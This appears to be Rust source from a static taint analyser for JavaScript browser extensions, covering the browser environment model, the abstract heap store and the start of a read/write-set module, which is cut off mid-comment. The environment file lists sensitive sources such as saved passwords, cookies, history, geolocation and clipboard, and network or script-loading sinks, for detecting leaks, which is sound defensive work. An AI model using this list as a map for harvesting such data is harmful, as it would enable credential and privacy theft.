//! The browser environment model: native API stubs and initial state.
//!
//! The paper "provide\[s\] manually-written stubs for the native APIs (e.g.
//! DOM and XPCOM APIs) used by our benchmarks" (Section 6.1). This module
//! is our equivalent: it builds the initial abstract heap (global object,
//! `window`/`document`/`content`, the XHR constructor, event-listener
//! registration, a small XPCOM surface) and defines the abstract semantics
//! of each native as a declarative [`NativeBehavior`] interpreted by the
//! abstract machine.

use crate::config::{SinkKind, SourceKind};
use crate::store::{SiteKey, SiteTable, State};
use jsdomains::{AValue, AllocSite, NativeId, ObjKind, Pre, Sym};
use std::collections::BTreeMap;

/// Declarative abstract semantics of a native function.
#[derive(Debug, Clone, PartialEq)]
pub enum NativeBehavior {
    /// Returns a completely unknown value.
    ReturnAny,
    /// Returns the host object with the given site name (e.g. DOM element
    /// lookups return the generic `dom-node`).
    ReturnHost(&'static str),
    /// Returns `undefined`.
    ReturnUndefined,
    /// Returns an unknown string.
    ReturnAnyString,
    /// Returns an unknown number.
    ReturnAnyNum,
    /// Returns an unknown boolean.
    ReturnAnyBool,
    /// Returns its first argument unchanged (e.g. `String(x)` is close
    /// enough to this for analysis purposes after coercion).
    CoerceString,
    /// Allocates and returns a fresh XHR object.
    XhrConstructor,
    /// `xhr.open(method, url, ...)`: records `url` into the receiver's
    /// `@url` internal slot.
    XhrOpen,
    /// `xhr.send(data)`: a network sink; the domain is the receiver's
    /// `@url`.
    XhrSend,
    /// The paper's `XHRWrapper(url)` convenience: allocates an XHR with
    /// `@url` pre-set and returns it.
    XhrWrapper,
    /// `addEventListener(type, handler)`: registers `handler`.
    AddEventListener,
    /// `removeEventListener(type, handler)`: abstractly a no-op (handlers
    /// may still run).
    RemoveEventListener,
    /// `setTimeout(fn, ms)` / `setInterval`: registers `fn` as a handler;
    /// flags dynamic code if called with a string.
    SetTimeout,
    /// `eval(code)`: restricted dynamic-code API (reported, not analyzed).
    Eval,
    /// `Services.scriptloader.loadSubScript(url)`: script injection sink.
    ScriptLoader,
    /// A string method; receiver coerced to an abstract string.
    Str(StrOp),
    /// `arr.push(x)`: weak write of `x` under an unknown index.
    ArrayPush,
    /// `arr.join(sep)` and similar: unknown string derived from contents.
    ArrayJoin,
    /// Invokes its `arg_index`-th argument as a callback with unknown
    /// arguments (e.g. `forEach`, `getCurrentPosition`).
    InvokeCallback {
        /// Which argument is the callback.
        arg_index: usize,
        /// Arguments handed to the callback: host object sites.
        callback_args: Vec<&'static str>,
    },
    /// Reads an interesting source location and returns its value (e.g.
    /// clipboard read helpers).
    ReadSource(&'static str, &'static str),
    /// `Services.prefs.set*Pref`: preference-write sink.
    PrefWrite,
    /// `Services.prefs.get*Pref`: returns an unknown primitive.
    PrefRead,
}

/// String-method operations with prefix-aware semantics.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum StrOp {
    /// `toLowerCase`
    ToLowerCase,
    /// `toUpperCase` (loses prefix precision conservatively).
    ToUpperCase,
    /// `indexOf` -> any number.
    IndexOf,
    /// `substring`/`slice` with constant bounds keeps leading slices.
    Substring,
    /// `charAt` -> unknown short string.
    CharAt,
    /// `replace` -> unknown string.
    Replace,
    /// `split` -> fresh array of unknown strings.
    Split,
    /// `concat` -> prefix-aware concatenation.
    Concat,
    /// `trim`: exact stays exact.
    Trim,
    /// `match` -> unknown.
    Match,
    /// `toString` on anything.
    ToString,
}

/// One native in the table.
#[derive(Debug, Clone)]
pub struct NativeSpec {
    /// Diagnostic, config-facing name (e.g.
    /// `"Services.scriptloader.loadSubScript"`).
    pub name: &'static str,
    /// Abstract semantics.
    pub behavior: NativeBehavior,
}

/// The environment: initial state, native table, source-location table.
#[derive(Debug)]
pub struct Environment {
    /// Initial abstract machine state (global object + host objects).
    pub initial_state: State,
    /// Native function table, indexed by [`NativeId`].
    pub natives: Vec<NativeSpec>,
    /// Interesting source locations: (site, exact property name) -> kind.
    pub source_locs: BTreeMap<(AllocSite, Sym), SourceKind>,
    /// The global object's allocation site.
    pub global: AllocSite,
    /// The event-registry host object's site.
    pub event_registry: AllocSite,
    /// The abstract event object handed to every handler.
    pub event_object: AllocSite,
}

impl Environment {
    /// Looks up a native id by name.
    pub fn native_by_name(&self, name: &str) -> Option<NativeId> {
        self.natives
            .iter()
            .position(|n| n.name == name)
            .map(|i| NativeId(i as u32))
    }

    /// The spec for a native id.
    pub fn spec(&self, id: NativeId) -> &NativeSpec {
        &self.natives[id.0 as usize]
    }

    /// The sink kind a native acts as, if any.
    pub fn sink_kind(&self, id: NativeId) -> Option<SinkKind> {
        match self.spec(id).behavior {
            NativeBehavior::XhrSend => Some(SinkKind::Send),
            NativeBehavior::ScriptLoader => Some(SinkKind::ScriptLoader),
            NativeBehavior::Eval => Some(SinkKind::Eval),
            NativeBehavior::PrefWrite => Some(SinkKind::PrefWrite),
            _ => None,
        }
    }
}

/// Builder used by [`setup`].
struct EnvBuilder<'t> {
    sites: &'t mut SiteTable,
    state: State,
    natives: Vec<NativeSpec>,
    source_locs: BTreeMap<(AllocSite, Sym), SourceKind>,
}

impl EnvBuilder<'_> {
    fn host(&mut self, name: &'static str, kind: ObjKind) -> AllocSite {
        let site = self.sites.intern(SiteKey::Host(name));
        self.state.alloc(site, kind);
        site
    }

    fn native(&mut self, name: &'static str, behavior: NativeBehavior) -> AllocSite {
        let id = NativeId(self.natives.len() as u32);
        self.natives.push(NativeSpec { name, behavior });
        self.host(name, ObjKind::Native(id))
    }

    fn set_prop(&mut self, obj: AllocSite, name: &str, value: AValue) {
        self.state
            .heap
            .get_mut(obj)
            .expect("host object allocated")
            .write_prop(&Pre::exact(name), &value, true);
    }

    fn source(&mut self, obj: AllocSite, prop: &str, kind: SourceKind, value: AValue) {
        self.set_prop(obj, prop, value);
        self.source_locs
            .insert((obj, Sym::intern(prop)), kind);
    }
}

/// Builds the browser environment: global object, host objects, natives,
/// and the interesting-source table.
pub fn setup(sites: &mut SiteTable) -> Environment {
    let global = sites.intern(SiteKey::Global);
    let mut b = EnvBuilder {
        sites,
        state: State::new(),
        natives: Vec::new(),
        source_locs: BTreeMap::new(),
    };
    b.state.alloc(global, ObjKind::Host("global"));

    // --- Event plumbing ---------------------------------------------------
    let registry = b.host("event-registry", ObjKind::Host("event-registry"));
    let event = b.host("event", ObjKind::Host("event"));
    let event_target = b.host("event.target", ObjKind::Host("event.target"));
    b.source(event, "keyCode", SourceKind::Key, AValue::any_num());
    b.source(event, "charCode", SourceKind::Key, AValue::any_num());
    b.source(event, "which", SourceKind::Key, AValue::any_num());
    b.set_prop(event, "type", AValue::any_str());
    b.set_prop(event, "target", AValue::obj(event_target));
    b.set_prop(event_target, "id", AValue::any_str());
    b.set_prop(event_target, "value", AValue::any_str());
    b.source(event_target, "textContent", SourceKind::Selection, AValue::any_str());
    let prevent = b.native("event.preventDefault", NativeBehavior::ReturnUndefined);
    b.set_prop(event, "preventDefault", AValue::obj(prevent));
    b.set_prop(event, "altKey", AValue::any_bool());
    b.set_prop(event, "ctrlKey", AValue::any_bool());
    b.set_prop(event, "shiftKey", AValue::any_bool());

    let add_listener = b.native("addEventListener", NativeBehavior::AddEventListener);
    let remove_listener = b.native("removeEventListener", NativeBehavior::RemoveEventListener);
    let set_timeout = b.native("setTimeout", NativeBehavior::SetTimeout);
    let set_interval = b.native("setInterval", NativeBehavior::SetTimeout);
    let clear_timeout = b.native("clearTimeout", NativeBehavior::ReturnUndefined);

    // --- The current page: content / document / location -------------------
    let location = b.host("location", ObjKind::Host("location"));
    b.source(location, "href", SourceKind::Url, AValue::any_str());
    b.source(location, "host", SourceKind::Url, AValue::any_str());
    b.source(location, "hostname", SourceKind::Url, AValue::any_str());
    b.source(location, "pathname", SourceKind::Url, AValue::any_str());
    b.source(location, "search", SourceKind::Url, AValue::any_str());

    let document = b.host("document", ObjKind::Host("document"));
    b.set_prop(document, "location", AValue::obj(location));
    b.source(document, "cookie", SourceKind::Cookie, AValue::any_str());
    b.source(document, "title", SourceKind::Url, AValue::any_str());
    b.set_prop(document, "addEventListener", AValue::obj(add_listener));
    b.set_prop(document, "removeEventListener", AValue::obj(remove_listener));
    let dom_node = b.host("dom-node", ObjKind::Host("dom-node"));
    let get_by_id = b.native("document.getElementById", NativeBehavior::ReturnHost("dom-node"));
    let create_elem = b.native("document.createElement", NativeBehavior::ReturnHost("dom-node"));
    b.set_prop(document, "getElementById", AValue::obj(get_by_id));
    b.set_prop(document, "createElement", AValue::obj(create_elem));
    b.set_prop(dom_node, "addEventListener", AValue::obj(add_listener));
    b.source(
        dom_node,
        "value",
        SourceKind::Selection,
        AValue::any_str(),
    );

    let content = b.host("content", ObjKind::Host("content"));
    b.set_prop(content, "location", AValue::obj(location));
    b.set_prop(content, "document", AValue::obj(document));

    let selection_obj = b.host("selection", ObjKind::Host("selection"));
    b.source(
        selection_obj,
        "text",
        SourceKind::Selection,
        AValue::any_str(),
    );
    let get_selection = b.native("window.getSelection", NativeBehavior::ReturnHost("selection"));

    // --- gBrowser (Firefox chrome) -----------------------------------------
    let current_uri = b.host("currentURI", ObjKind::Host("currentURI"));
    b.source(current_uri, "spec", SourceKind::Url, AValue::any_str());
    b.source(current_uri, "host", SourceKind::Url, AValue::any_str());
    let gbrowser = b.host("gBrowser", ObjKind::Host("gBrowser"));
    b.set_prop(gbrowser, "currentURI", AValue::obj(current_uri));
    b.set_prop(gbrowser, "contentDocument", AValue::obj(document));
    b.set_prop(gbrowser, "addEventListener", AValue::obj(add_listener));
    b.set_prop(gbrowser, "selectedBrowser", AValue::obj(gbrowser));

    // --- Network: XMLHttpRequest ------------------------------------------
    // The constructor installs `open`/`send` (below) on each request object.
    let xhr_ctor = b.native("XMLHttpRequest", NativeBehavior::XhrConstructor);
    let xhr_wrapper = b.native("XHRWrapper", NativeBehavior::XhrWrapper);
    b.native("xhr.open", NativeBehavior::XhrOpen);
    b.native("xhr.send", NativeBehavior::XhrSend);
    b.native("xhr.setRequestHeader", NativeBehavior::ReturnUndefined);
    b.native("xhr.abort", NativeBehavior::ReturnUndefined);
    b.native("xhr.overrideMimeType", NativeBehavior::ReturnUndefined);

    // --- Geolocation --------------------------------------------------------
    let coords = b.host("coords", ObjKind::Host("coords"));
    b.source(coords, "latitude", SourceKind::Geoloc, AValue::any_num());
    b.source(coords, "longitude", SourceKind::Geoloc, AValue::any_num());
    let position = b.host("position", ObjKind::Host("position"));
    b.set_prop(position, "coords", AValue::obj(coords));
    let get_position = b.native(
        "navigator.geolocation.getCurrentPosition",
        NativeBehavior::InvokeCallback {
            arg_index: 0,
            callback_args: vec!["position"],
        },
    );
    let geolocation = b.host("geolocation", ObjKind::Host("geolocation"));
    b.set_prop(geolocation, "getCurrentPosition", AValue::obj(get_position));
    let navigator = b.host("navigator", ObjKind::Host("navigator"));
    b.set_prop(navigator, "geolocation", AValue::obj(geolocation));
    b.set_prop(navigator, "userAgent", AValue::any_str());

    // --- Clipboard / passwords / history / bookmarks (XPCOM-ish) -----------
    let clipboard = b.host("clipboard", ObjKind::Host("clipboard"));
    b.source(clipboard, "data", SourceKind::Clipboard, AValue::any_str());
    let read_clipboard = b.native(
        "clipboard.read",
        NativeBehavior::ReadSource("clipboard", "data"),
    );
    b.set_prop(clipboard, "read", AValue::obj(read_clipboard));

    let login = b.host("login", ObjKind::Host("login"));
    b.source(login, "username", SourceKind::Password, AValue::any_str());
    b.source(login, "password", SourceKind::Password, AValue::any_str());
    let login_manager = b.host("loginManager", ObjKind::Host("loginManager"));
    let get_logins = b.native(
        "loginManager.getAllLogins",
        NativeBehavior::ReadSource("login", "password"),
    );
    b.set_prop(login_manager, "getAllLogins", AValue::obj(get_logins));

    let history_entry = b.host("history-entry", ObjKind::Host("history-entry"));
    b.source(history_entry, "uri", SourceKind::History, AValue::any_str());
    b.source(history_entry, "title", SourceKind::History, AValue::any_str());
    let history_service = b.host("historyService", ObjKind::Host("historyService"));
    let query_history = b.native(
        "historyService.executeQuery",
        NativeBehavior::ReadSource("history-entry", "uri"),
    );
    b.set_prop(history_service, "executeQuery", AValue::obj(query_history));

    let bookmark = b.host("bookmark", ObjKind::Host("bookmark"));
    b.source(bookmark, "uri", SourceKind::Bookmark, AValue::any_str());

    // --- Services / XPCOM surface -------------------------------------------
    let script_loader_fn = b.native(
        "Services.scriptloader.loadSubScript",
        NativeBehavior::ScriptLoader,
    );
    let script_loader = b.host("scriptloader", ObjKind::Host("scriptloader"));
    b.set_prop(script_loader, "loadSubScript", AValue::obj(script_loader_fn));
    let pref_get = b.native("Services.prefs.getCharPref", NativeBehavior::PrefRead);
    let pref_set = b.native("Services.prefs.setCharPref", NativeBehavior::PrefWrite);
    let prefs = b.host("prefs", ObjKind::Host("prefs"));
    b.set_prop(prefs, "getCharPref", AValue::obj(pref_get));
    b.set_prop(prefs, "setCharPref", AValue::obj(pref_set));
    b.set_prop(prefs, "getBoolPref", AValue::obj(pref_get));
    b.set_prop(prefs, "setBoolPref", AValue::obj(pref_set));
    let services = b.host("Services", ObjKind::Host("Services"));
    b.set_prop(services, "scriptloader", AValue::obj(script_loader));
    b.set_prop(services, "prefs", AValue::obj(prefs));
    b.set_prop(services, "wm", AValue::any());
    let components = b.host("Components", ObjKind::Host("Components"));
    b.set_prop(components, "classes", AValue::any());
    b.set_prop(components, "interfaces", AValue::any());
    let components_utils = b.host("Components.utils", ObjKind::Host("Components.utils"));
    let cu_import = b.native("Components.utils.import", NativeBehavior::ReturnAny);
    b.set_prop(components_utils, "import", AValue::obj(cu_import));
    b.set_prop(components, "utils", AValue::obj(components_utils));

    // --- Dynamic code / deprecated APIs ------------------------------------
    let eval_fn = b.native("eval", NativeBehavior::Eval);
    let function_ctor = b.native("Function", NativeBehavior::Eval);
    let open_dialog = b.native("window.openDialog", NativeBehavior::ReturnAny);
    let escape_fn = b.native("escape", NativeBehavior::ReturnAnyString);
    let unescape_fn = b.native("unescape", NativeBehavior::ReturnAnyString);

    // --- Misc global functions ----------------------------------------------
    let parse_int = b.native("parseInt", NativeBehavior::ReturnAnyNum);
    let parse_float = b.native("parseFloat", NativeBehavior::ReturnAnyNum);
    let is_nan = b.native("isNaN", NativeBehavior::ReturnAnyBool);
    let encode_uri = b.native("encodeURIComponent", NativeBehavior::CoerceString);
    let decode_uri = b.native("decodeURIComponent", NativeBehavior::ReturnAnyString);
    let string_fn = b.native("String", NativeBehavior::CoerceString);
    let number_fn = b.native("Number", NativeBehavior::ReturnAnyNum);
    let boolean_fn = b.native("Boolean", NativeBehavior::ReturnAnyBool);
    let alert = b.native("alert", NativeBehavior::ReturnUndefined);
    let console_log = b.native("console.log", NativeBehavior::ReturnUndefined);
    let console = b.host("console", ObjKind::Host("console"));
    b.set_prop(console, "log", AValue::obj(console_log));
    b.set_prop(console, "error", AValue::obj(console_log));
    b.set_prop(console, "warn", AValue::obj(console_log));
    let math = b.host("Math", ObjKind::Host("Math"));
    let math_random = b.native("Math.random", NativeBehavior::ReturnAnyNum);
    let math_floor = b.native("Math.floor", NativeBehavior::ReturnAnyNum);
    b.set_prop(math, "random", AValue::obj(math_random));
    b.set_prop(math, "floor", AValue::obj(math_floor));
    b.set_prop(math, "ceil", AValue::obj(math_floor));
    b.set_prop(math, "round", AValue::obj(math_floor));
    b.set_prop(math, "max", AValue::obj(math_floor));
    b.set_prop(math, "min", AValue::obj(math_floor));
    b.set_prop(math, "abs", AValue::obj(math_floor));
    b.set_prop(math, "PI", AValue::num(std::f64::consts::PI));
    let json = b.host("JSON", ObjKind::Host("JSON"));
    let json_stringify = b.native("JSON.stringify", NativeBehavior::ReturnAnyString);
    let json_parse = b.native("JSON.parse", NativeBehavior::ReturnAny);
    b.set_prop(json, "stringify", AValue::obj(json_stringify));
    b.set_prop(json, "parse", AValue::obj(json_parse));
    let date_ctor = b.native("Date", NativeBehavior::ReturnAny);
    let object_ctor = b.native("Object", NativeBehavior::ReturnAny);
    let array_ctor = b.native("Array", NativeBehavior::ReturnAny);
    let regexp_ctor = b.native("RegExp", NativeBehavior::ReturnAny);

    // String methods (resolved by name on string-typed receivers too).
    for (name, op) in [
        ("String.prototype.toLowerCase", StrOp::ToLowerCase),
        ("String.prototype.toUpperCase", StrOp::ToUpperCase),
        ("String.prototype.indexOf", StrOp::IndexOf),
        ("String.prototype.lastIndexOf", StrOp::IndexOf),
        ("String.prototype.substring", StrOp::Substring),
        ("String.prototype.substr", StrOp::Substring),
        ("String.prototype.slice", StrOp::Substring),
        ("String.prototype.charAt", StrOp::CharAt),
        ("String.prototype.charCodeAt", StrOp::IndexOf),
        ("String.prototype.replace", StrOp::Replace),
        ("String.prototype.split", StrOp::Split),
        ("String.prototype.concat", StrOp::Concat),
        ("String.prototype.trim", StrOp::Trim),
        ("String.prototype.match", StrOp::Match),
        ("String.prototype.toString", StrOp::ToString),
    ] {
        b.native(name, NativeBehavior::Str(op));
    }
    let array_push = b.native("Array.prototype.push", NativeBehavior::ArrayPush);
    let array_join = b.native("Array.prototype.join", NativeBehavior::ArrayJoin);
    let array_foreach = b.native(
        "Array.prototype.forEach",
        NativeBehavior::InvokeCallback {
            arg_index: 0,
            callback_args: vec![],
        },
    );
    let _ = (array_push, array_join, array_foreach);

    // --- window: alias for the global scope plus chrome extras -------------
    let window = b.host("window", ObjKind::Host("window"));
    b.set_prop(window, "addEventListener", AValue::obj(add_listener));
    b.set_prop(window, "removeEventListener", AValue::obj(remove_listener));
    b.set_prop(window, "setTimeout", AValue::obj(set_timeout));
    b.set_prop(window, "setInterval", AValue::obj(set_interval));
    b.set_prop(window, "openDialog", AValue::obj(open_dialog));
    b.set_prop(window, "getSelection", AValue::obj(get_selection));
    b.set_prop(window, "content", AValue::obj(content));
    b.set_prop(window, "document", AValue::obj(document));
    b.set_prop(window, "location", AValue::obj(location));
    b.set_prop(window, "navigator", AValue::obj(navigator));
    b.set_prop(window, "gBrowser", AValue::obj(gbrowser));
    b.set_prop(window, "alert", AValue::obj(alert));

    // --- Global bindings -----------------------------------------------------
    let globals: &[(&str, AValue)] = &[
        ("window", AValue::obj(window)),
        ("document", AValue::obj(document)),
        ("content", AValue::obj(content)),
        ("location", AValue::obj(location)),
        ("navigator", AValue::obj(navigator)),
        ("gBrowser", AValue::obj(gbrowser)),
        ("Services", AValue::obj(services)),
        ("Components", AValue::obj(components)),
        ("XMLHttpRequest", AValue::obj(xhr_ctor)),
        ("XHRWrapper", AValue::obj(xhr_wrapper)),
        ("addEventListener", AValue::obj(add_listener)),
        ("removeEventListener", AValue::obj(remove_listener)),
        ("setTimeout", AValue::obj(set_timeout)),
        ("setInterval", AValue::obj(set_interval)),
        ("clearTimeout", AValue::obj(clear_timeout)),
        ("clearInterval", AValue::obj(clear_timeout)),
        ("eval", AValue::obj(eval_fn)),
        ("Function", AValue::obj(function_ctor)),
        ("escape", AValue::obj(escape_fn)),
        ("unescape", AValue::obj(unescape_fn)),
        ("parseInt", AValue::obj(parse_int)),
        ("parseFloat", AValue::obj(parse_float)),
        ("isNaN", AValue::obj(is_nan)),
        ("encodeURIComponent", AValue::obj(encode_uri)),
        ("encodeURI", AValue::obj(encode_uri)),
        ("decodeURIComponent", AValue::obj(decode_uri)),
        ("String", AValue::obj(string_fn)),
        ("Number", AValue::obj(number_fn)),
        ("Boolean", AValue::obj(boolean_fn)),
        ("alert", AValue::obj(alert)),
        ("console", AValue::obj(console)),
        ("Math", AValue::obj(math)),
        ("JSON", AValue::obj(json)),
        ("Date", AValue::obj(date_ctor)),
        ("Object", AValue::obj(object_ctor)),
        ("Array", AValue::obj(array_ctor)),
        ("RegExp", AValue::obj(regexp_ctor)),
        ("clipboard", AValue::obj(clipboard)),
        ("loginManager", AValue::obj(login_manager)),
        ("historyService", AValue::obj(history_service)),
        ("undefined", AValue::undef()),
        ("NaN", AValue::num(f64::NAN)),
        ("Infinity", AValue::num(f64::INFINITY)),
    ];
    for (name, value) in globals {
        b.set_prop(global, name, value.clone());
    }

    Environment {
        initial_state: b.state,
        natives: b.natives,
        source_locs: b.source_locs,
        global,
        event_registry: registry,
        event_object: event,
    }
}

/// The string-method names resolvable on string-typed receivers, mapped to
/// their native table names.
pub fn string_method(name: &str) -> Option<&'static str> {
    Some(match name {
        "toLowerCase" => "String.prototype.toLowerCase",
        "toUpperCase" => "String.prototype.toUpperCase",
        "indexOf" => "String.prototype.indexOf",
        "lastIndexOf" => "String.prototype.lastIndexOf",
        "substring" => "String.prototype.substring",
        "substr" => "String.prototype.substr",
        "slice" => "String.prototype.slice",
        "charAt" => "String.prototype.charAt",
        "charCodeAt" => "String.prototype.charCodeAt",
        "replace" => "String.prototype.replace",
        "split" => "String.prototype.split",
        "concat" => "String.prototype.concat",
        "trim" => "String.prototype.trim",
        "match" => "String.prototype.match",
        "toString" => "String.prototype.toString",
        _ => return None,
    })
}

/// Array/object method names resolvable on any object receiver when the
/// property is otherwise absent.
pub fn object_method(name: &str) -> Option<&'static str> {
    Some(match name {
        "push" => "Array.prototype.push",
        "join" => "Array.prototype.join",
        "forEach" => "Array.prototype.forEach",
        "toString" => "String.prototype.toString",
        _ => return None,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn environment_builds() {
        let mut sites = SiteTable::new();
        let env = setup(&mut sites);
        assert!(env.natives.len() > 20);
        assert!(env.native_by_name("XMLHttpRequest").is_some());
        assert!(env.native_by_name("no-such-native").is_none());
        assert!(!env.source_locs.is_empty());
    }

    #[test]
    fn url_source_registered_on_location() {
        let mut sites = SiteTable::new();
        let env = setup(&mut sites);
        let loc = sites.get(&SiteKey::Host("location")).unwrap();
        assert_eq!(
            env.source_locs.get(&(loc, Sym::intern("href"))),
            Some(&SourceKind::Url)
        );
    }

    #[test]
    fn sink_kinds() {
        let mut sites = SiteTable::new();
        let env = setup(&mut sites);
        let send = env
            .natives
            .iter()
            .position(|n| n.behavior == NativeBehavior::XhrSend);
        // XhrSend is not in the table directly (it's installed on XHR
        // objects at construction); check eval + scriptloader instead.
        let _ = send;
        let eval = env.native_by_name("eval").unwrap();
        assert_eq!(env.sink_kind(eval), Some(SinkKind::Eval));
        let sl = env
            .native_by_name("Services.scriptloader.loadSubScript")
            .unwrap();
        assert_eq!(env.sink_kind(sl), Some(SinkKind::ScriptLoader));
    }

    #[test]
    fn global_bindings_present() {
        let mut sites = SiteTable::new();
        let env = setup(&mut sites);
        let g = env
            .initial_state
            .object(env.global)
            .expect("global allocated");
        for name in ["content", "XMLHttpRequest", "Services", "eval", "undefined"] {
            let v = g.read_prop(&Pre::exact(name));
            assert!(
                !jsdomains::Lattice::is_bottom(&v),
                "global `{name}` missing"
            );
        }
    }

    #[test]
    fn string_method_lookup() {
        assert!(string_method("toLowerCase").is_some());
        assert!(string_method("nope").is_none());
        assert!(object_method("push").is_some());
    }
}
