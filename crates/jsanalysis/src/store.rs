//! Allocation-site interning and the abstract machine state.
//!
//! Everything addressable lives in the abstract heap: ordinary objects,
//! activation frames (making closures sound by construction), the global
//! object, and host objects for the browser environment. Each gets an
//! [`AllocSite`] interned from a structural key, so re-analysis of the
//! same statement in the same context reuses the same abstract address.

use crate::context::CtxId;
use jsdomains::{AObject, AValue, AllocSite, Heap, ObjKind};
use jsir::{IrFuncId, StmtId};
use std::collections::HashMap;

/// Structural identity of an allocation site. Contexts appear as interned
/// [`CtxId`]s, making the whole key `Copy` and its hash/compare O(1).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum SiteKey {
    /// The global object.
    Global,
    /// An activation frame of `func` in a context.
    Frame(IrFuncId, CtxId),
    /// An object allocated by a statement in a context.
    Stmt(StmtId, CtxId),
    /// A host (browser-environment) object, by name.
    Host(&'static str),
    /// An object allocated internally by a native function at a call site.
    NativeAlloc(StmtId, CtxId, &'static str),
    /// The aged (summary) twin of a rotating allocation site: holds the
    /// older instances under recency abstraction. The payload is the
    /// most-recent site's index.
    Aged(u32),
}

/// Interner mapping [`SiteKey`]s to dense [`AllocSite`]s.
#[derive(Debug, Default)]
pub struct SiteTable {
    map: HashMap<SiteKey, AllocSite>,
    origins: Vec<SiteKey>,
}

impl SiteTable {
    /// An empty table.
    pub fn new() -> SiteTable {
        SiteTable::default()
    }

    /// Interns a key.
    pub fn intern(&mut self, key: SiteKey) -> AllocSite {
        if let Some(&s) = self.map.get(&key) {
            return s;
        }
        let site = AllocSite(self.origins.len() as u32);
        self.origins.push(key);
        self.map.insert(key, site);
        site
    }

    /// The key a site was interned from.
    pub fn origin(&self, site: AllocSite) -> &SiteKey {
        &self.origins[site.0 as usize]
    }

    /// Looks up an existing site without interning.
    pub fn get(&self, key: &SiteKey) -> Option<AllocSite> {
        self.map.get(key).copied()
    }

    /// True if the site is an activation frame of `func` (any context),
    /// following recency aging.
    pub fn is_frame_of(&self, site: AllocSite, func: IrFuncId) -> bool {
        let mut key = self.origin(site);
        loop {
            match key {
                SiteKey::Frame(f, _) => return *f == func,
                SiteKey::Aged(inner) => key = self.origin(AllocSite(*inner)),
                _ => return false,
            }
        }
    }

    /// Number of interned sites.
    pub fn len(&self) -> usize {
        self.origins.len()
    }

    /// True if nothing has been interned.
    pub fn is_empty(&self) -> bool {
        self.origins.is_empty()
    }
}

/// Internal slot names used by the analysis.
pub mod slots {
    /// Ancestor frames visible to an activation (its static scope chain).
    pub const CHAIN: &str = "@chain";
    /// Scope chain captured by a closure at its `Lambda` site.
    pub const SCOPE: &str = "@scope";
    /// The `this` binding of an activation.
    pub const THIS: &str = "@this";
    /// Accumulated return value of an activation.
    pub const RET: &str = "@ret";
    /// The in-flight exception value of an activation.
    pub const EXC: &str = "@exc";
    /// The URL a network-request object will communicate with.
    pub const URL: &str = "@url";
    /// Registered event handlers (on the event-registry host object).
    pub const HANDLERS: &str = "@handlers";
    /// Registered timer callbacks.
    pub const TIMERS: &str = "@timers";
}

/// The abstract machine state at a program point: just the heap (frames,
/// globals and objects all live there).
#[derive(Debug, Clone, PartialEq, Default)]
pub struct State {
    /// The abstract heap.
    pub heap: Heap,
}

impl State {
    /// An empty state.
    pub fn new() -> State {
        State::default()
    }

    /// Joins another state in, returning true on change.
    pub fn join_in_place(&mut self, other: &State) -> bool {
        self.heap.join_in_place(&other.heap)
    }

    /// Allocates (or re-visits) an object at `site`.
    pub fn alloc(&mut self, site: AllocSite, kind: ObjKind) -> AllocSite {
        self.heap.alloc(site, kind)
    }

    /// Reads an internal slot from every object in `sites`, joined.
    pub fn read_slot(&self, sites: impl IntoIterator<Item = AllocSite>, slot: &'static str) -> AValue {
        use jsdomains::Lattice;
        let mut out = AValue::bottom();
        for s in sites {
            if let Some(o) = self.heap.get(s) {
                out = out.join(&o.internal_slot(slot));
            }
        }
        out
    }

    /// Writes an internal slot on one object.
    pub fn write_slot(&mut self, site: AllocSite, slot: &'static str, value: AValue) {
        if let Some(o) = self.heap.get_mut(site) {
            o.set_internal_slot(slot, value);
        }
    }

    /// The object at `site`, if allocated.
    pub fn object(&self, site: AllocSite) -> Option<&AObject> {
        self.heap.get(site)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn interning_is_stable() {
        let mut t = SiteTable::new();
        let a = t.intern(SiteKey::Global);
        let b = t.intern(SiteKey::Host("xhr"));
        let a2 = t.intern(SiteKey::Global);
        assert_eq!(a, a2);
        assert_ne!(a, b);
        assert_eq!(t.origin(b), &SiteKey::Host("xhr"));
        assert_eq!(t.len(), 2);
    }

    #[test]
    fn frame_sites_distinguish_contexts() {
        use crate::context::{Context, CtxTable};
        let mut ctxs = CtxTable::new();
        let mut t = SiteTable::new();
        let f = IrFuncId(1);
        let c1 = ctxs.intern(Context::root().push(StmtId(5), 1));
        let c2 = ctxs.intern(Context::root().push(StmtId(9), 1));
        let s1 = t.intern(SiteKey::Frame(f, c1));
        let s2 = t.intern(SiteKey::Frame(f, c2));
        assert_ne!(s1, s2);
        assert!(t.is_frame_of(s1, f));
        assert!(!t.is_frame_of(s1, IrFuncId(2)));
    }

    #[test]
    fn state_slots() {
        let mut t = SiteTable::new();
        let s = t.intern(SiteKey::Host("frame"));
        let mut st = State::new();
        st.alloc(s, ObjKind::Host("frame"));
        st.write_slot(s, slots::RET, AValue::num(1.0));
        assert_eq!(st.read_slot([s], slots::RET), AValue::num(1.0));
        assert_eq!(st.read_slot([s], slots::EXC), jsdomains::Lattice::bottom());
    }

    #[test]
    fn state_join() {
        let mut t = SiteTable::new();
        let s = t.intern(SiteKey::Host("o"));
        let mut a = State::new();
        a.alloc(s, ObjKind::Plain);
        let mut b = a.clone();
        b.write_slot(s, slots::RET, AValue::num(2.0));
        assert!(a.join_in_place(&b));
        assert!(!a.join_in_place(&b));
    }
}
