//! Read/write sets, the interface between the base analysis and PDG
//! construction (Section 3 of the paper).
//!
//! Variables and object properties are represented uniformly as abstract
//! *locations* `(allocation site, abstract property name)` -- activation
//! frames make variables properties of frame objects, and globals are
//! properties of the global object. Property names are elements of the
//! prefix string domain, "abstract strings representing potentially
//! multiple possible concrete property names" exactly as in the paper.
//!
//! Each element carries a strength qualifier: **strong** means the
//! abstract location is guaranteed to be a single concrete memory location
//! with an exactly-known name (the paper's "definite read/write"), which
//! requires the site to be a singleton and the name exact.

use jsdomains::{AllocSite, MeetLattice, Pre};
use std::collections::BTreeMap;
use std::fmt;

/// An abstract memory location.
#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct Loc {
    /// The object (or frame, or global object) holding the slot.
    pub site: AllocSite,
    /// The abstract property name.
    pub prop: Pre,
}

impl Loc {
    /// A location with an exactly-known name.
    pub fn exact(site: AllocSite, prop: impl AsRef<str>) -> Loc {
        Loc {
            site,
            prop: Pre::exact(prop),
        }
    }

    /// The paper's overlap test between two locations, using the
    /// `e`-intersection on abstract property names: locations overlap if
